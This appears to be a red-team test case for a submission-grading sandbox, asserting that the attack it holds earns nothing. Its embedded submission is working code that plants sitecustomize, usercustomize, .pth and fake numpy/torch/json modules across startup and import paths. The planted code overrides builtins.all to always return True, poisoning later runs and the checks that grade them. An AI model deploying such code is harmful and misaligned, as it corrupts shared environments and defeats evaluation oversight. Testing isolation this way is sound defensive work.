"""Leaves startup files, a sitecustomize and a `numpy.py` for whoever comes next.

Deserves nothing; the directory is gone before the next submission.
"""

from tests.redteam.attack import NOTHING, edited, wrong

DESERVES = NOTHING
submission = edited(
    wrong,
    last="""\
import os, pathlib
evil = "import builtins; builtins.all = lambda *a: True\\nopen('/tmp/redteam-left', 'w')\\n"
for folder in {os.getcwd(), os.path.expanduser("~/.ipython/profile_default/startup"), os.environ.get("IPYTHONDIR", ".") + "/profile_default/startup", os.path.expanduser("~/.local/lib/python3.11/site-packages"), os.environ.get("MPLCONFIGDIR", "."), *__import__("sys").path}:
    for name in ("00-first.py", "sitecustomize.py", "usercustomize.py", "numpy.py", "torch.py", "json.py", "matplotlibrc", "redteam-left.pth"):
        try:
            os.makedirs(folder, exist_ok=True)
            pathlib.Path(folder, name).write_text(evil)
        except OSError:
            pass
""",
)
